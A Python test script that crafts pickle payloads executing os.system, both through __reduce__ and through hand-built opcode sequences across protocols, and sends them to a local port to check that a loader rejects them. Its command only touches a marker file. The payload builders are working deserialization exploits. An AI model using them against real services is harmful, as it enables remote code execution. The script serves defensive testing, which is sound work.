"""Sends pickles that run something where they are loaded: each would make the file MARKER.

    python3 hostile.py PORT MARKER     prints how many it sent
    python3 hostile.py load MARKER     loads one itself, to show that they work
"""

import os
import pickle
import socket
import struct
import sys


class Exploit:
    def __init__(self, command):
        self.command = command

    def __reduce__(self):
        return os.system, (self.command,)


class Copied:
    """Made by copyreg: NEWOBJ, BUILD."""


def made(command):
    """By CPython, in every protocol that it has; in a container, as a key, and as the state of an object."""
    for protocol in range(6):
        for value in (Exploit(command), [1, Exploit(command)], {"a": (Exploit(command),)}):
            yield pickle.dumps(value, protocol)
        if protocol >= 2:
            holder = Copied()
            holder.state = Exploit(command)
            yield pickle.dumps(holder, protocol)


def by_hand(command):
    """Opcode for opcode, so that each way of naming and calling is there behind each PROTO."""
    text = command.encode()
    argument = b"X" + struct.pack("<I", len(text)) + text
    for protocol in (b"\x80\x02", b"\x80\x03", b"\x80\x04", b"\x80\x05"):
        yield protocol + b"cos\nsystem\n" + argument + b"\x85R."
        yield protocol + b"(ios\nsystem\n" + b"."
        yield protocol + b"(" + argument + b"ios\nsystem\n."
        yield protocol + b"(cos\nsystem\n" + argument + b"o."
        yield protocol + b"\x8c\x02os\x8c\x06system\x93" + argument + b"\x85R."
        yield protocol + b"cos\nsystem\n" + argument + b"\x85\x81."
        yield protocol + b"cos\nsystem\n" + argument + b"\x85}\x92."
        yield protocol + b"N" + argument + b"b."
        yield protocol + b"]" + b"cos\nsystem\n" + argument + b"\x85Ra."
        yield protocol + b"Pname\n."
        yield protocol + argument + b"Q."
        yield protocol + b"\x82\x01."


def main(target, marker):
    command = f"touch {marker}"
    if target == "load":
        pickle.loads(next(made(command)))
        return
    payloads = [*made(command), *by_hand(command)]
    with socket.create_connection(("127.0.0.1", int(target))) as peer:
        for payload in payloads:
            peer.sendall(struct.pack(">I", len(payload)) + payload)
        goodbye = pickle.dumps("goes on")
        peer.sendall(struct.pack(">I", len(goodbye)) + goodbye)
        print(len(payloads), flush=True)
        sys.stdin.read()


main(*sys.argv[1:])
